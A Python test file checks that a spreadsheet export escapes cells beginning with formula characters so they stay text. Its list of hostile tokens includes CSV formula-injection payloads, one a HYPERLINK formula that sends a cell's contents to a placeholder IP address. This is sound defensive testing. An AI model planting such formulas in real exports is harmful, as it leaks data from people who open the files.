"""Downloads that a spreadsheet opens: what visitors have written into tokens stays text there."""

import csv
import io
import math

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from engine.corpus.reading.tables import open_table
from engine.interop.spreadsheet import csv_bytes, tsv_bytes
from tests.conftest import ROOT
from tests.hostile import NASTY

HOSTILE = ['=HYPERLINK("http://192.0.2.1?"&A1,"x")', "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", "\n=1", "＝1", "-", "="]
HARMLESS = ["가", "a=1", " =1", "'s", "<b>", "", "1", "½", "a\r=1", "a\n=1", 'a,"=1']


def _rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("kind", ["object", "category", "string"])
def test_what_begins_like_a_formula_is_written_as_text(kind: str) -> None:
    tokens = pd.Series(HOSTILE + HARMLESS, dtype=kind)
    rows = _rows(csv_bytes(pd.DataFrame({"token": tokens, "n": 1})))
    assert [row[0] for row in rows[1:]] == [f"'{token}" for token in HOSTILE] + HARMLESS


def test_names_of_columns_are_texts_too() -> None:
    assert _rows(csv_bytes(pd.DataFrame([[1, "a"]], columns=["=1", "=1"])))[0] == ["'=1", "'=1"]


def test_numbers_and_gaps_stay() -> None:
    table = pd.DataFrame(
        {
            "float": [-1.5, math.nan, -math.inf],
            "int": pd.array([-3, None, 4], dtype="Int64"),
            "mixed": [-2, None, "-2"],
            "bool": [True, False, True],
        }
    )
    assert _rows(csv_bytes(table))[1:] == [
        ["-1.5", "-3", "-2", "True"],
        ["", "", "", "False"],
        ["-inf", "4", "'-2", "True"],
    ]
    assert table["mixed"].tolist()[2] == "-2"  # the table itself stays as it was


def test_tables_of_tabs_too() -> None:
    data = tsv_bytes(pd.DataFrame({"left": ["=1", "가"], "n": [-1, 2]}))
    assert data.decode() == "left\tn\n'=1\t-1\n가\t2\n"


def test_readers_of_tables_read_quotation_marks_as_written() -> None:
    texts = ['"', '"가', '가"', '""', '"가"', 'a"b', "'", *HARMLESS[:6]]
    data = tsv_bytes(pd.DataFrame({"n": range(len(texts)), "token": texts}))
    assert pd.read_csv(io.BytesIO(data), sep="\t", keep_default_na=False)["token"].tolist() == texts
    rows = csv.reader(io.StringIO(data.decode(), newline=""), delimiter="\t", strict=True)
    assert [row[1] for row in rows][1:] == texts
    assert open_table("tsv", data.decode()).cells("token") == texts


def test_no_download_is_made_in_another_way() -> None:
    every = [path for folder in ("app", "engine") for path in (ROOT / folder).rglob("*.py")]
    paths = [path for path in every if "to_csv(" in path.read_text(encoding="utf-8")]
    assert [path.name for path in paths] == ["spreadsheet.py"]


_PARTS = (*HOSTILE, *HARMLESS, '"', "\x00", "\x1a", ",", ";", "\u2028")
_CELLS = st.one_of(
    st.sampled_from(NASTY), st.text(max_size=20), st.builds("".join, st.lists(st.sampled_from(_PARTS), max_size=4))
)


@settings(max_examples=60)
@given(st.lists(st.tuples(_CELLS, _CELLS), max_size=8), _CELLS)
def test_whatever_is_in_a_table_its_file_has_the_same_rows_and_no_formula(
    rows: list[tuple[str, str]], name: str
) -> None:
    table = pd.DataFrame(rows, columns=["n", f"{name}x"])
    read = _rows(csv_bytes(table))
    assert len(read) == len(rows) + 1 and {len(row) for row in read} == {2}
    cells = [cell for row in read for cell in row]
    assert not any(cell[:1] in "=+-@\t\r\n＝＋－＠" for cell in cells if cell)
    written = [cell.encode("utf-8", "backslashreplace").decode() for row in rows for cell in row]
    assert [cell.removeprefix("'") for cell in cells[2:]] == [cell.removeprefix("'") for cell in written]
